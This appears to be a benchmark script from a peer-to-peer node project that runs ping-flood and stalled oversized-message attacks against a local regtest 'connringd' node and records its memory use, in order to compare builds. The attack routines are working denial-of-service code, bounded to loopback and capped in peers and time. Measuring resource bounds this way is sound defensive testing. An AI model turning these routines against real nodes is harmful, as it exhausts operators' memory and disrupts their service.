#!/usr/bin/python3
"""attack_rss.py: measures how much memory two of issue 10's attacks make a
running connringd hold (its VmRSS before, at the peak, and after), to
compare builds side by side. Loopback only; bounded in peers and time.

  /usr/bin/python3 bench/load/attack_rss.py --pid PID --port PORT \
      --attack pingflood|partial|partial-pre [--peers N] [--seconds S]

  pingflood    N V1 peers (receive buffer 4 KiB) complete the handshake and
               send pings without ever reading the pongs, for S seconds
  partial      N V1 peers complete the handshake, declare a 4,000,000-byte
               message, send all of it but the last byte, then stall
  partial-pre  the same before the handshake: the message declared is a
               4,000,000-byte version

connringd must run on -chain=regtest. RSS is sampled from /proc/PID/status
each 0.2 s; the peers are closed at the end. Figures are provisional on a
shared machine; compare builds in one run."""
import argparse
import hashlib
import os
import socket
import struct
import time

MAGIC = bytes.fromhex("fabfb5da")  # regtest


def msg(cmd, payload):
    ck = hashlib.sha256(hashlib.sha256(payload).digest()).digest()[:4]
    return MAGIC + cmd.encode().ljust(12, b"\0") + struct.pack("<I", len(payload)) + ck + payload


def version():
    addr = struct.pack("<Q", 0) + bytes(10) + b"\xff\xff" + bytes([127, 0, 0, 1]) + struct.pack(">H", 0)
    p = struct.pack("<iQq", 70016, 0, int(time.time())) + addr + addr
    p += struct.pack("<Q", int.from_bytes(os.urandom(8), "little"))
    p += bytes([len(b"/attack_rss/")]) + b"/attack_rss/" + struct.pack("<i?", 0, False)
    return msg("version", p)


def rss_kib(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise RuntimeError("no VmRSS")


def connect(port, handshake):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.connect(("127.0.0.1", port))
    if handshake:
        s.sendall(version() + msg("verack", b""))
    return s


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--pid", type=int, required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--attack", choices=["pingflood", "partial", "partial-pre"], required=True)
    ap.add_argument("--peers", type=int, default=10)
    ap.add_argument("--seconds", type=float, default=20)
    a = ap.parse_args()
    a.peers = min(a.peers, 1000)
    a.seconds = min(a.seconds, 120)
    start = rss_kib(a.pid)
    peak = start
    socks = [connect(a.port, a.attack != "partial-pre") for _ in range(a.peers)]
    time.sleep(1)  # let the handshakes finish
    end = time.monotonic() + a.seconds
    if a.attack == "pingflood":
        burst = b"".join(msg("ping", struct.pack("<Q", i)) for i in range(64))
        for s in socks:
            s.setblocking(False)
        while time.monotonic() < end:
            for s in socks:
                try:
                    s.send(burst)
                except (BlockingIOError, InterruptedError):
                    pass
                except OSError:
                    pass  # closed by the node: what a bound may do
            peak = max(peak, rss_kib(a.pid))
    else:
        cmd = b"version" if a.attack == "partial-pre" else b"tx"
        head = MAGIC + cmd.ljust(12, b"\0") + struct.pack("<I", 4000000) + b"\0\0\0\0"
        body = os.urandom(65536)
        for s in socks:
            try:
                s.settimeout(1)
                s.sendall(head)
                left = 3999999
                while left and time.monotonic() < end:
                    left -= s.send(body[:min(left, len(body))])
            except OSError:
                pass  # refused or paused: the node's bound at work
            peak = max(peak, rss_kib(a.pid))
        while time.monotonic() < end:
            peak = max(peak, rss_kib(a.pid))
            time.sleep(0.2)
    held = rss_kib(a.pid)
    for s in socks:
        s.close()
    time.sleep(2)
    print("attack=%s peers=%d seconds=%g rss_start_mib=%.1f rss_peak_mib=%.1f rss_end_of_attack_mib=%.1f "
          "rss_after_close_mib=%.1f" % (a.attack, a.peers, a.seconds, start / 1024, peak / 1024,
                                        held / 1024, rss_kib(a.pid) / 1024))


if __name__ == "__main__":
    main()
